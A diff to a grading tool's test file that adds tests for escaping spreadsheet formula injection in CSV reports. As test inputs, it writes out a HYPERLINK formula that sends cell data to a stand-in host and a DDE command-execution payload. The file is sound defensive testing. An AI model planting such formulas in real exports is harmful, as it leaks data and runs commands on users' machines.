@@ -8,7 +8,7 @@ import { checkedStage, exerciseLeaks, exerciseOf } from '../../src/lab/exercise.
 import { loadLabText } from '../../src/lab/load.js';
 import { checkLab, loadLab } from '../../src/lab/resolve.js';
 import { tableNameFiles } from '../../src/plan/table-names.js';
-import { csvReport, CSV_COLUMNS, scoreOf } from '../../src/report/csv.js';
+import { csvField, csvReport, CSV_COLUMNS, FORMULA_START, scoreOf } from '../../src/report/csv.js';
 import type { LabRun } from '../../src/run/results.js';
 
 const LAB = 'labs/dual-nic-reply-path.yaml';
@@ -79,6 +79,35 @@ describe('batch grading as CSV', () => {
       `${CSV_COLUMNS.join(',')}\r\n`
       + 'l.ws1,ws1,l,fix it,"a, ""quoted""",passed,,\r\n'
       + 'l,,l,fix it,"a, ""quoted""",failed,"two\nlines","replies: expected 3, observed 0"\r\n');
+  });
+  it('a cell a spreadsheet would run as a formula gets a leading \' (OWASP), then RFC 4180 quoting: each dangerous first character', () => {
+    for (const [cell, written] of [
+      ['=HYPERLINK("http://x.example/?"&A1,"grade")', `"'=HYPERLINK(""http://x.example/?""&A1,""grade"")"`],
+      ['+1+cmd|\' /C calc\'!A0', "'+1+cmd|' /C calc'!A0"],
+      ['-2+3', "'-2+3"],
+      ['@SUM(1+1)*cmd', "'@SUM(1+1)*cmd"],
+      ['\t=1+1', "'\t=1+1"],
+      ['\r=1+1', `"'\r=1+1"`],
+    ] as const) {
+      expect(csvField(cell), JSON.stringify(cell)).toBe(written);
+      expect(FORMULA_START.test(cell)).toBe(true);
+    }
+  });
+  it('ordinary cells are written as they are (a formula character later in the text is no formula); a ; is quoted like a ,', () => {
+    const ordinary = ['ws1', 'passed', '', 'a-b', 'x=1', 'mail@example.org', 'replies leave through eth1', '192.168.1.220',
+      ' =1', '\u00a0=1', "'=already"];
+    for (const cell of ordinary) {
+      expect(csvField(cell), JSON.stringify(cell)).toBe(cell);
+      expect(FORMULA_START.test(cell)).toBe(false);
+    }
+    expect(csvField('a;=1+1')).toBe('"a;=1+1"');
+    expect(csvField('a,b')).toBe('"a,b"');
+  });
+  it('in the report: test names, hints, stages and reasons are neutralised, the rest unchanged', () => {
+    const hostile: LabRun[] = [{ lab: 'l', file: 'l.yaml', instance: 'l.ws1', durationMs: 1, tests: [
+      t('l.ws1', '=1+1', 'failed', { stage: '@stage', hint: '-hint', checks: [{ name: '+x', ok: false, expected: '1', observed: '0' }] }),
+    ] }];
+    expect(csvReport(hostile).split('\r\n')[1]).toBe(`l.ws1,ws1,l,'@stage,'=1+1,failed,'-hint,"'+x: expected 1, observed 0"`);
   });
   it('a score counts the tests that ran', () => {
     expect(scoreOf(runs[0]!)).toEqual({ passed: 1, total: 1 });
